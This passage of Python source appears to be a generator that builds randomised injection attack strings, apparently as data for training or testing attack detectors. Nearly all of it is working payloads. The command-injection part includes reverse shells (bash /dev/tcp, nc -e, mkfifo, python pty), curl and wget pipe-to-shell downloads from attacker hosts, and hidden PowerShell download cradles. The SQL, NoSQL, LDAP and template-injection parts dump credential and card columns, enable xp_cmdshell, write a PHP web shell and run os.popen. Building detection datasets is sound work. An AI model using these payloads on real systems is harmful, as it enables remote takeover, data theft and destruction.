    def ps_enc():
        ps = pick(
            [
                "IEX(New-Object Net.WebClient).DownloadString('http://%s/%s.ps1')" % (ahost(), tok()),
                "whoami; hostname",
                "Get-Process | Out-String",
                "Invoke-WebRequest http://%s/%s -OutFile $env:TEMP\\%s.exe" % (ahost(), tok(), tok()),
            ]
        )
        return A(PRE() + ";powershell -nop -w hidden -enc " + b64(ps.encode("utf-16-le")), True)

    L.append(ps_enc)
    L.append(
        lambda: A(
            S(
                "<<pre>>|powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://<<h>>/<<t>>.ps1')\"",
                pre=PRE(),
                h=ahost(),
                t=tok(),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                "<<pre>>;Invoke-Expression (iwr http://<<h>>/<<t>> -UseBasicParsing).Content",
                pre=PRE(),
                h=ahost(),
                t=tok(),
            ),
            True,
        )
    )
    L.append(lambda: A(S("<<pre>>;curl -s http://<<h>>/<<t>>.sh|sh", pre=PRE(), h=ahost(), t=tok())))
    L.append(lambda: A(S("<<pre>>|wget -qO- <<h>>/<<t>>|bash", pre=PRE(), h=ahost(), t=tok())))
    L.append(lambda: A(S("<<pre>>`wget <<h>>/<<t>> -O /tmp/<<u>>`", pre=PRE(), h=ahost(), t=tok(), u=tok())))
    L.append(lambda: A(S("<<pre>>;bash -i >& /dev/tcp/<<ip>>/<<port>> 0>&1", pre=PRE(), ip=aip(), port=aport())))
    L.append(lambda: A(S("<<pre>>|nc -e /bin/sh <<ip>> <<port>>", pre=PRE(), ip=aip(), port=aport())))
    L.append(
        lambda: A(
            S(
                "<<pre>>;rm /tmp/<<f>>;mkfifo /tmp/<<f>>;cat /tmp/<<f>>|/bin/sh -i 2>&1|nc <<ip>> <<port>> >/tmp/<<f>>",
                pre=PRE(),
                f=alpha(1, 3),
                ip=aip(),
                port=aport(),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                '<<pre>>;python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("<<ip>>",<<port>>));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\'',
                pre=PRE(),
                ip=aip(),
                port=aport(),
            )
        )
    )
    L.append(
        lambda: A(PRE() + pick([";sleep %d", "|sleep %d", "$(sleep %d)", "`sleep %d`", "&& sleep %d"]) % ri(3, 20))
    )
    L.append(
        lambda: A(PRE() + pick(["|ping -c %d 127.0.0.1", "&ping -n %d 127.0.0.1&", "& timeout /T %d"]) % ri(4, 20))
    )
    L.append(lambda: A(S("<<pre>>;nslookup `whoami`.<<h>>", pre=PRE(), h=ahost())))
    L.append(lambda: A(S("<<pre>>|dig $(hostname).<<h>>", pre=PRE(), h=ahost())))
    L.append(lambda: A(S("<<pre>>&nslookup %USERNAME%.<<h>>", pre=PRE(), h=ahost()), True))
    L.append(lambda: A(PRE() + ";cat${HOME:0:1}etc${HOME:0:1}" + pick(["passwd", "shadow", "hosts"]), True))
    L.append(
        lambda: A(
            PRE() + ";" + "%s=%s;%s=%s;$%s$%s" % ("a", "who", "b", "ami", "a", "b")
            if R.random() < 0.5
            else PRE() + ";u=una;v=me;$u$v -a",
            True,
        )
    )
    L.append(
        lambda: A(
            S("-oProxyCommand=<<c>>", c=ucmd().replace(" ", "${IFS}")),
            True,
            None,
            param=pick(["host", "server", "target"]),
        )
    )
    L.append(
        lambda: A(
            S("--checkpoint=1 --checkpoint-action=exec=<<c>>", c=pick(["sh /tmp/%s.sh" % tok(), "'%s'" % ucmd()])),
            True,
            None,
            param=pick(["archive_opts", "options", "args"]),
        )
    )
    L.append(
        lambda: A(
            S("() { :; }; /bin/bash -c '<<c>>'", c=ucmd()),
            False,
            ["header"],
            hdr=pick(["User-Agent", "Referer", "Cookie2", "X-Forwarded-For"]),
            path=pick(["/cgi-bin/status", "/cgi-bin/test.cgi", "/cgi-bin/printenv"]),
        )
    )
    L.append(lambda: A(S("<<pre>>;$(curl -s http://<<h>>/?d=$(id|base64))", pre=PRE(), h=ahost())))
    return L


TBL = [
    "users",
    "accounts",
    "admin_users",
    "customers",
    "members",
    "staff",
    "wp_users",
    "auth_user",
    "employees",
    "credentials",
]
COLS = ["password", "passwd", "pass_hash", "email", "api_key", "secret", "token", "ssn", "card_number"]
ADMINS = ["admin", "administrator", "root", "sa", "superuser", "sysadmin", "admin@localhost"]


def sval():
    return pick(
        [
            "laptop",
            "shoes",
            "john",
            "blue",
            "2024",
            "books",
            "report",
            "summer",
            "test",
            "gift",
            "chair",
            "alice",
            tok(3, 6),
        ]
    )


def nval():
    return str(ri(1, 9999))


def cols(n, inj):
    c = ["NULL"] * n
    c[ri(0, n - 1)] = inj
    return ",".join(c)


def g_sqli():
    L = []
    L.append(lambda: A(S("<<v>>' OR '<<n>>'='<<n>>", v=sval(), n=ri(1, 99))))
    L.append(lambda: A(S("<<v>>' or <<n>>=<<n>>#", v=sval(), n=ri(1, 99))))
    L.append(lambda: A(S("<<u>>'<<c>>", u=pick(ADMINS), c=pick(["-- -", "--", "#", "/*", ")-- "]))))
    L.append(lambda: A(S("<<n>> OR <<m>>=<<m>>", n=nval(), m=ri(1, 9))))
    L.append(lambda: A(S("<<n>>) OR (<<m>>=<<m>>", n=nval(), m=ri(1, 9))))
    L.append(
        lambda: A(
            S(
                "<<v>>' UNION SELECT <<c>> FROM <<t>>-- -",
                v=sval(),
                c=cols(
                    ri(2, 5),
                    pick(["username||':'||" + pick(COLS), "concat(username,0x3a," + pick(COLS) + ")", pick(COLS)]),
                ),
                t=pick(TBL),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                "-<<n>> UNION ALL SELECT <<c>>#",
                n=nval(),
                c=cols(ri(2, 6), pick(["@@version", "user()", "database()", "@@hostname"])),
            )
        )
    )
    L.append(
        lambda: A(
            rcase("%s' union/**/select/**/table_name,%d/**/from/**/information_schema.tables#" % (sval(), ri(1, 9))),
            True,
        )
    )
    L.append(
        lambda: A(
            S(
                "0 union select 1,group_concat(column_name),3 from information_schema.columns where table_name=0x<<h>>",
                h=pick(TBL).encode().hex(),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            S(
                "<<v>>' AND extractvalue(<<n>>,concat(0x7e,(<<q>>)))-- ",
                v=sval(),
                n=ri(1, 9),
                q=pick(
                    [
                        "version()",
                        "select user()",
                        "select database()",
                        "select %s from %s limit 1" % (pick(COLS), pick(TBL)),
                    ]
                ),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                "<<v>>' AND updatexml(<<n>>,concat(0x7e,(<<q>>),0x7e),<<n>>)#",
                v=sval(),
                n=ri(1, 9),
                q=pick(
                    ["select user()", "select @@version", "select schema_name from information_schema.schemata limit 1"]
                ),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                "<<v>>' AND 1=CONVERT(int,(<<q>>))--",
                v=sval(),
                q=pick(
                    [
                        "SELECT @@version",
                        "SELECT DB_NAME()",
                        "SELECT TOP 1 name FROM sysobjects WHERE xtype='U'",
                        "SELECT SYSTEM_USER",
                    ]
                ),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                "<<v>>' AND 1=CAST((<<q>>) AS int)--",
                v=sval(),
                q=pick(["SELECT version()", "SELECT current_user", "SELECT string_agg(usename,',') FROM pg_user"]),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                "<<v>>' AND 1=utl_inaddr.get_host_name((SELECT <<q>>))--",
                v=sval(),
                q=pick(
                    ["banner FROM v$version WHERE rownum=1", "user FROM dual", "username FROM all_users WHERE rownum=1"]
                ),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                "<<v>>' AND 1=ctxsys.drithsx.sn(1,(SELECT <<q>>))--",
                v=sval(),
                q=pick(["user FROM dual", "banner FROM v$version WHERE rownum=1"]),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                "<<v>>' AND GTID_SUBSET(CONCAT(0x7e,(SELECT <<q>>),0x7e),<<n>>)-- ",
                v=sval(),
                q=pick(["user()", "version()", "database()"]),
                n=ri(1, 9),
            ),
            True,
        )
    )
    L.append(lambda: A(S("<<v>>' AND SLEEP(<<s>>)-- <<t>>", v=sval(), s=ri(3, 15), t=pick(["", "-", alpha(1, 3)]))))
    L.append(
        lambda: A(
            S(
                "<<n>> AND (SELECT <<k>> FROM (SELECT SLEEP(<<s>>))<<a>>)",
                n=nval(),
                k=ri(1000, 9999),
                s=ri(3, 15),
                a=alpha(1, 4),
            )
        )
    )
    L.append(lambda: A(S("<<v>>'; WAITFOR DELAY '0:0:<<s>>'--", v=sval(), s=ri(3, 15))))
    L.append(lambda: A(S("<<v>>' || pg_sleep(<<s>>)--", v=sval(), s=ri(3, 15))))
    L.append(lambda: A(S("<<v>>'||(SELECT pg_sleep(<<s>>))||'", v=sval(), s=ri(3, 15)), True))
    L.append(
        lambda: A(
            S(
                "<<v>>' AND <<k>>=dbms_pipe.receive_message('<<a>>',<<s>>)--",
                v=sval(),
                k=ri(1, 99),
                a=alpha(1, 4),
                s=ri(3, 15),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                "<<v>>' AND <<k>>=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(<<n>>00000000/2))))-- ",
                v=sval(),
                k=ri(1, 99),
                n=ri(1, 9),
            ),
            True,
        )
    )
    L.append(lambda: A(S("<<n>> AND BENCHMARK(<<b>>,MD5(<<k>>))", n=nval(), b=ri(2, 9) * 1000000, k=ri(1, 999))))
    L.append(lambda: A(S("<<n>>; DROP TABLE <<t>>--", n=nval(), t=pick(TBL + ["sessions", "orders", "audit_log"]))))
    L.append(lambda: A(S("<<v>>'; EXEC xp_cmdshell '<<c>>'--", v=sval(), c=wcmd().replace("'", ""))))
    L.append(
        lambda: A(
            S(
                "<<v>>'; INSERT INTO <<t>>(username,role) VALUES('<<u>>','admin')--",
                v=sval(),
                t=pick(TBL),
                u=alpha(4, 8),
            )
        )
    )
    L.append(lambda: A(S("<<n>>; COPY (SELECT '') TO PROGRAM '<<c>>'--", n=nval(), c=ucmd())))
    L.append(
        lambda: A(
            S(
                "<<v>>'; DECLARE @<<a>> varchar(200);SET @<<a>>=0x<<h>>;EXEC(@<<a>>)--",
                v=sval(),
                a=alpha(1, 3),
                h=("EXEC master..xp_cmdshell '%s'" % wcmd().replace("'", "")).encode().hex(),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            S(
                "<<v>>'; EXEC sp_configure 'show advanced options',1;RECONFIGURE;EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE--",
                v=sval(),
            )
        )
    )
    L.append(lambda: A(S("<<n>>/**/OR/**/<<m>>=<<m>>", n=nval(), m=ri(1, 99)), True))
    L.append(
        lambda: A(
            S(
                "<<v>>'/*!50000UNION*//*!50000SELECT*/<<c>>-- ",
                v=sval(),
                c=cols(ri(2, 5), pick(["user()", "@@datadir", "version()"])),
            ),
            True,
        )
    )
    L.append(lambda: A(S("<<n>>\x0bOR\x0b<<m>>=<<m>>", n=nval(), m=ri(1, 99)), True))
    L.append(lambda: A(S("<<v>>'#<<t>>\nOR <<m>>=<<m>>#", v=sval(), t=alpha(2, 6), m=ri(1, 99)), True))
    L.append(lambda: A(S("<<v>>' oR <<n>> LiKe <<n>>-- ", v=sval(), n=ri(1, 99)), True))
    L.append(lambda: A(S("' OR username=0x<<h>>-- ", h=pick(ADMINS).encode().hex()), True))
    L.append(
        lambda: A(
            S(
                "<<v>>' UNION SELECT CHAR(<<c>>),<<n>>-- ",
                v=sval(),
                c=",".join(str(ord(ch)) for ch in pick(["admin", "root", "user", "pass"])),
                n=ri(1, 9),
            ),
            True,
        )
    )
    L.append(lambda: A(S("' OR name=<<c>>--", c="||".join("CHR(%d)" % ord(ch) for ch in pick(ADMINS[:4]))), True))
    L.append(lambda: A(S("<<v>>' OR 1=1 AND $$<<t>>$$=$$<<t>>$$--", v=sval(), t=alpha(2, 5)), True))
    L.append(lambda: A(S("<<n>> AND <<m>>=<<m>>", n=nval(), m=ri(1, 99))))
    L.append(lambda: A(S("<<n>>-0 OR <<m>>", n=nval(), m=ri(1, 9)), True))
    L.append(
        lambda: A(
            S(
                "(CASE WHEN (SELECT SUBSTRING(<<c>>,1,1) FROM <<t>> LIMIT 1)='<<ch>>' THEN id ELSE price END)",
                c=pick(COLS),
                t=pick(TBL),
                ch=pick("abcdef0123"),
            ),
            True,
            None,
            param=pick(["sort", "order", "orderBy"]),
        )
    )
    L.append(
        lambda: A(
            S("id,(select <<k>> from (select sleep(<<s>>))<<a>>)", k=ri(1, 99), s=ri(3, 12), a=alpha(1, 3)),
            True,
            None,
            param=pick(["sort", "order", "columns"]),
        )
    )
    L.append(
        lambda: A(
            S("<<n>> PROCEDURE ANALYSE(EXTRACTVALUE(<<k>>,CONCAT(0x7e,VERSION())),1)", n=ri(1, 100), k=ri(1000, 9999))
        )
    )
    L.append(
        lambda: A(
            S(
                "<<u>>'); UPDATE <<t>> SET role='admin' WHERE username='<<u>>'-- ",
                u=first() + str(ri(1, 99)),
                t=pick(TBL),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                "<<v>>' AND (SELECT SUBSTRING(<<c>>,<<i>>,1) FROM <<t>> WHERE username='admin')='<<ch>>",
                v=sval(),
                c=pick(COLS),
                i=ri(1, 20),
                t=pick(TBL),
                ch=pick("abcdef0123456789"),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                "<<v>>' AND ASCII(SUBSTR((SELECT <<c>> FROM <<t>> WHERE ROWNUM=1),<<i>>,1))><<k>>--",
                v=sval(),
                c=pick(COLS),
                t=pick(TBL),
                i=ri(1, 20),
                k=ri(48, 122),
            )
        )
    )
    L.append(lambda: A(S("<<v>>'||'<<n>>'='<<n>>", v=sval(), n=ri(1, 9)), True))
    L.append(lambda: A(S("<<n>>'and'<<m>>'='<<m>>", n=nval(), m=alpha(1, 2)), True))
    L.append(lambda: A(S("<<n>>e0union select <<c>>", n=ri(0, 9), c=cols(ri(2, 4), "user()")), True))
    L.append(lambda: A(S("<<v>>'-0 OR <<n>>#", v=sval(), n=ri(1, 9)), True))
    L.append(
        lambda: A(
            S("<<v>>' OR JSON_EXTRACT('{\"<<k>>\":<<n>>}','$.<<k>>')=<<n>>-- ", v=sval(), k=alpha(1, 3), n=ri(1, 99)),
            True,
        )
    )
    L.append(
        lambda: A(
            S(
                "<<v>>' OR '{\"<<k>>\":<<n>>}'::jsonb @> '{\"<<k>>\":<<n>>}'::jsonb-- ",
                v=sval(),
                k=alpha(1, 3),
                n=ri(1, 99),
            ),
            True,
        )
    )
    L.append(lambda: A(S("<<v>>' or true-- <<t>>", v=sval(), t=alpha(1, 4))))
    L.append(
        lambda: A(
            S("<<v>>' UNION SELECT name,sql FROM sqlite_master<<w>>-- ", v=sval(), w=pick(["", " WHERE type='table'"]))
        )
    )
    L.append(lambda: A(S("<<v>>' UNION SELECT banner,NULL FROM v$version WHERE ROWNUM=<<n>>-- ", v=sval(), n=1)))
    L.append(lambda: A(S("<<v>>'; EXEC master..xp_dirtree '\\\\<<h>>\\<<t>>'--", v=sval(), h=ahost(), t=tok())))
    L.append(
        lambda: A(
            S(
                "<<v>>' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT <<c>> FROM <<t>> LIMIT 1),'.<<h>>\\\\a'))-- ",
                v=sval(),
                c=pick(COLS),
                t=pick(TBL),
                h=ahost(),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            S(
                "<<v>>' UNION SELECT '<?php system($_GET[<<p>>]); ?>' INTO OUTFILE '/var/www/html/<<t>>.php'-- ",
                v=sval(),
                p=alpha(1, 2),
                t=tok(),
            )
        )
    )
    return L


def g_nosqli():
    L = []
    FLD = [
        "username",
        "user",
        "email",
        "password",
        "pass",
        "token",
        "login",
        "name",
        "id",
        "role",
        "status",
        "apiKey",
        "resetToken",
        "otp",
    ]
    OPS = ["$ne", "$gt", "$gte", "$lt", "$regex", "$exists", "$nin", "$in", "$where", "$eq"]
    L.append(lambda: OBJ({"$ne": pick([None, "", tok(), 0, -1, "x" + str(ri(1, 999)), False])}))
    L.append(lambda: OBJ({pick(["$gt", "$gte"]): pick(["", " ", "a", 0, -ri(1, 999), "0", "!"])}))
    L.append(
        lambda: OBJ(
            {
                "$regex": "^" + pick(["adm", "a", "ro", "sup", "sa", "sys"]) + pick(["", ".*", ".{%d}" % ri(2, 9)]),
                "$options": pick(["i", "si", "m"]),
            }
        )
    )
    L.append(lambda: OBJ({"$regex": ".{%d}" % ri(1, 30)}, True))
    L.append(
        lambda: OBJ(
            {"$in": R.sample(["admin", "root", "administrator", "superuser", "owner", "staff", "support"], ri(2, 4))}
        )
    )
    L.append(lambda: OBJ({"$nin": [tok() for _ in range(ri(1, 3))]}))
    L.append(lambda: OBJ({"$exists": pick([True, False, 1])}))
    L.append(
        lambda: OBJ(
            {"$where": S("this.<<f>>.length > <<n>>", f=pick(FLD), n=ri(0, 12))},
            False,
            None,
            param=pick(["filter", "query", "where"]),
        )
    )
    L.append(
        lambda: OBJ(
            {"$where": "sleep(%d) || true" % (ri(2, 9) * 1000)},
            False,
            None,
            param=pick(["filter", "query", "criteria"]),
        )
    )
    L.append(
        lambda: OBJ(
            {
                "$where": "function(){ var d = new Date(); do { var c = new Date(); } while (c - d < %d); return true; }"
                % (ri(3, 9) * 1000)
            },
            True,
            None,
            param=pick(["filter", "where"]),
        )
    )
    L.append(
        lambda: OBJ(
            {"$expr": {"$eq": ["$role", pick(["admin", "root", "owner"])]}}, True, None, param=pick(["filter", "match"])
        )
    )
    L.append(
        lambda: OBJ(
            {"$expr": {"$gt": [{"$strLenCP": "$password"}, ri(1, 12)]}}, True, None, param=pick(["filter", "match"])
        )
    )
    L.append(
        lambda: OBJ(
            {"$or": [{"role": "admin"}, {pick(FLD): {"$ne": tok()}}]}, False, None, param=pick(["filter", "query"])
        )
    )
    L.append(
        lambda: OBJ(
            [
                {"$match": {}},
                {
                    "$addFields": {
                        alpha(1, 3): {
                            "$function": {
                                "body": "function(){ return sleep(%d) }" % (ri(2, 9) * 1000),
                                "args": [],
                                "lang": "js",
                            }
                        }
                    }
                },
            ],
            True,
            None,
            param="pipeline",
        )
    )
    L.append(
        lambda: OBJ(
            [
                {
                    "$lookup": {
                        "from": pick(["users", "admins", "apikeys"]),
                        "localField": "owner",
                        "foreignField": "_id",
                        "as": alpha(1, 3),
                    }
                }
            ],
            True,
            None,
            param="pipeline",
        )
    )
    L.append(
        lambda: OBJ(
            [
                {
                    "$group": {
                        "_id": None,
                        alpha(1, 3): {
                            "$accumulator": {
                                "init": "function(){ return 0 }",
                                "accumulate": "function(s){ return sleep(%d) }" % (ri(1, 5) * 1000),
                                "accumulateArgs": [],
                                "merge": "function(a,b){ return a }",
                                "lang": "js",
                            }
                        },
                    }
                }
            ],
            True,
            None,
            param="pipeline",
        )
    )
    L.append(lambda: OBJ({"$not": {"$type": ri(1, 19)}}, True))
    L.append(lambda: OBJ({"$elemMatch": {"role": {"$ne": "user"}, "level": {"$gte": ri(1, 9)}}}, True))
    L.append(lambda: OBJ({"$jsonSchema": {"required": [pick(FLD)]}}, True, None, param="filter"))

    def login_whole():
        f1 = pick(["username", "email", "user", "login"])
        o = {
            f1: pick([{"$ne": None}, {"$gt": ""}, "admin", {"$regex": "^a"}]),
            "password": pick([{"$ne": tok()}, {"$gt": ""}, {"$exists": True}, {"$ne": None}]),
        }
        if isinstance(o[f1], str):
            o[f1] = pick(ADMINS[:3] + ["admin@%s" % pick(APP_HOSTS)])
        return OBJ(
            o,
            R.random() < 0.4,
            None,
            whole=True,
            path=pick(["/api/login", "/auth/signin", "/api/v1/session"]),
            method="POST",
            uesc_dollar=R.random() < 0.4,
        )

    L.append(login_whole)

    def bracket():
        f = pick(FLD)
        op = pick(OPS)
        k = "%s[%s]" % (f, op)
        if R.random() < 0.3:
            k = "%s[%s][%s]" % (pick(["filter", "where", "q"]), f, op)
        if op in ("$in", "$nin"):
            k += "[]"
        kv = {
            "$regex": pick(["^a", ".*", "^adm.*"]),
            "$where": pick(["1==1", "sleep(3000)", "this.role=='admin'"]),
            "$exists": "true",
        }.get(op, pick(["", "x", tok(2, 4), "0"]))
        return A(
            k,
            op in ("$where", "$regex") or k.startswith(("filter[", "where[", "q[")),
            ["query_key", "form"],
            key=True,
            kval=kv,
        )

    L.append(bracket)
    L.append(bracket)
    L.append(lambda: A(S("<<u>>' || '<<a>>'=='<<a>>", u=pick(ADMINS[:4]), a=alpha(1, 3))))
    L.append(lambda: A(S("'; return true; var <<v>>='", v=alpha(1, 4))))
    L.append(lambda: A(S("<<u>>'; while(true){}; var <<v>>='", u=pick(ADMINS[:4]), v=alpha(1, 3)), True))
    L.append(lambda: A(S("<<n>>; sleep(<<ms>>)", n=ri(0, 99), ms=ri(2, 9) * 1000)))
    L.append(lambda: A(S("' && this.password.match(/^<<c>>/)//", c=pick("abcdef0123456789") + pick(["", ".*"]))))
    L.append(
        lambda: A(S("<<u>>' && this.<<f>>.length > <<n>> && 'a'=='a", u=pick(ADMINS[:4]), f=pick(FLD), n=ri(1, 20)))
    )
    L.append(
        lambda: A(
            S(
                "0 || this.<<f>> == '<<v>>'",
                f=pick(["isAdmin", "role", "plan"]),
                v=pick(["true", "admin", "enterprise"]),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            S('{"<<f>>":{"$ne":"<<t>>"}}', f=pick(FLD), t=tok()),
            True,
            ["query", "form", "multipart"],
            param=pick(["filter", "q", "where", "query"]),
        )
    )
    L.append(
        lambda: A(
            S('{"$where":"this.<<f>> != \'<<t>>\'"}', f=pick(FLD), t=tok()),
            True,
            ["query", "form"],
            param=pick(["filter", "query"]),
        )
    )
    L.append(
        lambda: A(
            "j:"
            + compact({pick(["user", "uid", "email"]): pick([{"$ne": None}, {"$gt": ""}, {"$regex": ".*"}])})
            + pick(["", " "]).strip(),
            True,
            ["cookie"],
            param=pick(["session", "auth", "prefs"]),
        )
    )
    L.append(
        lambda: A(
            S(
                "<<u>>\\'; return db.<<c>>.find(); var <<v>>=\\'",
                u=pick(ADMINS[:4]),
                c=pick(["users", "accounts", "tokens"]),
                v=alpha(1, 3),
            ),
            True,
        )
    )
    return L


def g_ldapi():
    L = []
    U = lambda: pick(ADMINS[:4] + ["jdoe", "svc_backup", "%s.%s" % (first(), last()), first()])
    DC = lambda: ",".join(
        "DC=" + x
        for x in pick([["corp", "local"], ["example", "com"], ["ad", "acme", "org"], [pick(WORDS), "internal"]])
    )
    L.append(lambda: A(S("*)(<<a>>=*))(|(<<a>>=*", a=pick(["uid", "cn", "sAMAccountName", "mail"]))))
    L.append(lambda: A(S("<<u>>)(&)", u=U())))
    L.append(lambda: A(S("<<u>>)(|(&", u=U())))
    L.append(lambda: A(S("*)(|(objectClass=<<o>>)", o=pick(["*", "user", "person", "inetOrgPerson"]))))
    L.append(lambda: A(S("<<u>>*)(|(userPassword=*)", u=U())))
    L.append(
        lambda: A(
            S(
                "<<u>>)(userPassword=<<c>>*",
                u=U(),
                c=pick("abcdefghijklmnopqrstuvwxyz0123456789") + pick(["", pick("abcdef")]),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                "*)(memberOf=CN=<<g>>,OU=Groups,<<d>>)",
                g=pick(["Domain Admins", "Administrators", "vpn-admins", "Enterprise Admins"]),
                d=DC(),
            )
        )
    )
    L.append(lambda: A(S("<<u>>)(cn=*))\x00", u=U()), True, ["query", "form", "json", "cookie", "path"]))
    L.append(lambda: A(S("<<u>>*))%00", u=U()), True))
    L.append(lambda: A(S("<<u>>%29%28%7C%28<<a>>%3D%2A%29", u=U(), a=pick(["uid", "cn", "mail"])), True))
    L.append(lambda: A(S("<<u>>\\29\\28|\\28<<a>>=*", u=U(), a=pick(["uid", "cn"])), True))
    L.append(lambda: A(S("*)(description=*<<w>>*", w=pick(["pass", "pwd", "secret", "temp", "vpn"]))))
    L.append(lambda: A(S("<<x>>*)(|(mail=*@*)", x=alpha(1, 3))))
    L.append(lambda: A(S("*)(objectClass=user)(sAMAccountName=<<p>>*", p=pick(["adm", "svc", "a", "sql"]))))
    L.append(lambda: A(S("<<u>>)(!(cn=<<t>>)", u=U(), t=tok())))
    L.append(lambda: A(S("*)(&(objectCategory=person)(adminCount=<<n>>)", n=1)))
    L.append(lambda: A(S("*))(|(<<a>>=*", a=pick(["cn", "uid", "ou", "sn"]))))
    L.append(
        lambda: A(S("*)(userAccountControl:1.2.840.113556.1.4.803:=<<n>>)", n=pick([2, 512, 65536, 4194304])), True)
    )
    L.append(lambda: A(S("<<u>>)(|(password=*))", u=U())))
    L.append(lambda: A(S("*)(|(userPassword=*))(&(uid=<<u>>", u=U())))
    L.append(lambda: A(S("<<u>>*)((|userPassword=*)", u=U())))
    L.append(
        lambda: A(
            S(
                "*)(<<a>>=<<p>>*))(|(<<a>>=*",
                a=pick(["telephoneNumber", "homeDirectory", "loginShell", "uidNumber"]),
                p=pick(["0", "/", "1", "+"]),
            )
        )
    )
    L.append(lambda: A(S("<<u>>)(!(&(1=0)", u=U()), True))
    L.append(lambda: A(S("*)(|(cn=*)(cn=<<t>>", t=tok())))
    L.append(lambda: A(S("<<u>>)(objectClass=*))(&(objectClass=void", u=U())))
    L.append(lambda: A(S("%2A%29%28%7C%28<<a>>%3D%2A", a=pick(["objectClass", "uid", "cn"])), True))
    L.append(
        lambda: A(
            S("<<u>>*)(|(<<a>>>=<<n>>)", u=U(), a=pick(["uidNumber", "gidNumber", "pwdLastSet"]), n=ri(0, 1000)), True
        )
    )
    L.append(lambda: A(S("*)(|(sn=*)(givenName=*))(&(cn=<<t>>", t=tok())))
    return L


def g_ssti():
    L = []
    N = lambda: ri(11, 999)
    L.append(lambda: A(S("{{<<a>>*<<b>>}}", a=N(), b=N())))
    L.append(lambda: A(S("{{<<a>>*'<<b>>'}}", a=ri(2, 9), b=ri(2, 9))))
    L.append(lambda: A(S("${<<a>>*<<b>>}", a=N(), b=N())))
    L.append(lambda: A(S("#{<<a>>*<<b>>}", a=N(), b=N())))
    L.append(lambda: A(S("<%= <<a>>*<<b>> %>", a=N(), b=N())))
    L.append(lambda: A(S("${{<<a>>*<<b>>}}", a=N(), b=N())))
    L.append(lambda: A(S("@(<<a>>*<<b>>)", a=N(), b=N())))
    L.append(lambda: A(S("{{config.<<x>>}}", x=pick(["items()", "SECRET_KEY", "__class__.__init__.__globals__"]))))
    L.append(
        lambda: A(
            S("{{request.application.__globals__.__builtins__.__import__('os').popen('<<c>>').read()}}", c=ucmd())
        )
    )
    L.append(lambda: A(S("{{ cycler.__init__.__globals__.os.popen('<<c>>').read() }}", c=ucmd())))
    L.append(lambda: A(S("{{lipsum.__globals__['os'].popen('<<c>>').read()}}", c=ucmd())))
    L.append(lambda: A(S("{{''.__class__.__mro__[1].__subclasses__()[<<n>>]}}", n=ri(100, 480))))
    L.append(
        lambda: A(
            S(
                "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('<<c>>')|attr('read')()}}",
                c=ucmd(),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            S(
                "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('<<c>>').read()}}{% endif %}{% endfor %}",
                c=ucmd(),
            )
        )
    )
    L.append(
        lambda: A(
            S(
                "{% set <<v>> = joiner.__init__.__globals__.os.popen('<<c>>').read() %}{{ <<v>> }}",
                v=alpha(1, 3),
                c=ucmd(),
            )
        )
    )
    L.append(
        lambda: A(
            S('{{ lipsum|attr("__globals__")|attr("get")("os")|attr("popen")("<<c>>")|attr("read")() }}', c=ucmd()),
            True,
        )
    )
    L.append(lambda: A(S("{{ namespace.__init__.__globals__.os.popen('<<c>>').read() }}", c=ucmd())))
    L.append(lambda: A(S("{{ url_for.__globals__.os.environ.get('<<v>>') }}", v=pick(ENVV))))
    L.append(
        lambda: A(
            S(
                '{{_self.env.registerUndefinedFilterCallback("<<f>>")}}{{_self.env.getFilter("<<c>>")}}',
                f=pick(["exec", "system", "passthru"]),
                c=ucmd(),
            )
        )
    )
    L.append(lambda: A(S("{{['<<c>>']|filter('<<f>>')}}", c=ucmd(), f=pick(["system", "passthru"]))))
    L.append(lambda: A(S("{{['<<c>>']|map('<<f>>')|join}}", c=ucmd(), f=pick(["passthru", "system", "shell_exec"]))))
    L.append(lambda: A(S("{{['<<c>>',<<n>>]|sort('system')|join}}", c=ucmd(), n=ri(0, 9)), True))
    L.append(
        lambda: A(
            S('<#assign <<v>>="freemarker.template.utility.Execute"?new()>${<<v>>("<<c>>")}', v=alpha(1, 3), c=ucmd())
        )
    )
    L.append(lambda: A(S('${"freemarker.template.utility.Execute"?new()("<<c>>")}', c=ucmd())))
    L.append(
        lambda: A(
            S("[#assign <<v>>='freemarker.template.utility.Execute'?new()]${<<v>>('<<c>>')}", v=alpha(1, 3), c=ucmd()),
            True,
        )
    )
    L.append(
        lambda: A(
            S(
                "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('<<f>>').toURL().openStream().readAllBytes()?join(\" \")}",
                f=pick(["/etc/passwd", "/etc/hosts", "/proc/self/environ"]),
            ),
            True,
        )
    )
    L.append(
        lambda: A(
            S(
                "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('<<c>>'))$ex.waitFor()",
                c=ucmd(),
            )
        )
    )
    L.append(lambda: A(S('$class.inspect("java.lang.Runtime").type.getRuntime().exec("<<c>>").waitFor()', c=ucmd())))
